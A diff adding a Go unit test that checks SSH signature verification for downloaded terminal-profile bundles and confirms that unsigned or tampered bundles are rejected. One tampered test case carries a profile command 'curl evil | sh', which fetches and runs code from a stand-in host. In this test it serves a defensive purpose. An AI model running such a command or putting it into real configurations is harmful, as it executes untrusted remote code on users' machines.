@@ -0,0 +1,85 @@
+package bundle
+
+import (
+	"fmt"
+	"io/ioutil"
+	"net/http"
+	"net/http/httptest"
+	"os/exec"
+	"path/filepath"
+	"testing"
+
+	"github.com/mhristof/germ/config"
+	"github.com/stretchr/testify/assert"
+)
+
+func TestVerifySSH(t *testing.T) {
+	if _, err := exec.LookPath("ssh-keygen"); err != nil {
+		t.Skip("ssh-keygen is not installed")
+	}
+
+	dir, cleanup := cacheDir(t)
+	defer cleanup()
+
+	key := filepath.Join(dir, "key")
+	out, err := exec.Command("ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "", "-f", key).CombinedOutput()
+	assert.Nil(t, err, string(out))
+
+	file := filepath.Join(dir, "profiles.json")
+	assert.Nil(t, ioutil.WriteFile(file, []byte(bundleJSON), 0644))
+	out, err = exec.Command("ssh-keygen", "-Y", "sign", "-f", key, "-n", namespace, file).CombinedOutput()
+	assert.Nil(t, err, string(out))
+
+	public, err := ioutil.ReadFile(key + ".pub")
+	assert.Nil(t, err)
+	signers := filepath.Join(dir, "allowed_signers")
+	assert.Nil(t, ioutil.WriteFile(signers, []byte(fmt.Sprintf("team@example.com %s", public)), 0644))
+
+	signature, err := ioutil.ReadFile(file + ".sig")
+	assert.Nil(t, err)
+
+	var cases = []struct {
+		name     string
+		identity string
+		data     string
+		valid    bool
+	}{
+		{
+			name:     "valid signature",
+			identity: "team@example.com",
+			data:     bundleJSON,
+			valid:    true,
+		},
+		{
+			name:     "modified bundle",
+			identity: "team@example.com",
+			data:     `{"profiles": [{"name": "evil", "command": "curl evil | sh"}]}`,
+		},
+		{
+			name:     "unknown identity",
+			identity: "other@example.com",
+			data:     bundleJSON,
+		},
+	}
+
+	for _, test := range cases {
+		s := &config.Signature{Tool: "ssh", Key: signers, Identity: test.identity}
+		err := Verify(s, []byte(test.data), signature)
+		assert.Equal(t, test.valid, err == nil, fmt.Sprintf("%s: %v", test.name, err))
+	}
+
+	server := httptest.NewServer(http.FileServer(http.Dir(dir)))
+	defer server.Close()
+
+	signed := config.Bundle{
+		URL:       server.URL + "/profiles.json",
+		Signature: &config.Signature{Tool: "ssh", Key: signers, Identity: "team@example.com"},
+	}
+	assert.Equal(t, 1, len(Profiles(signed, false)))
+
+	assert.Nil(t, Profiles(config.Bundle{URL: server.URL + "/profiles.json"}, false), "unsigned")
+	assert.Equal(t, 1, len(Profiles(config.Bundle{URL: server.URL + "/profiles.json"}, true)))
+
+	assert.Nil(t, ioutil.WriteFile(file, []byte(`{"profiles": [{"name": "evil"}]}`), 0644))
+	assert.Nil(t, Profiles(signed, false), "invalid signature")
+}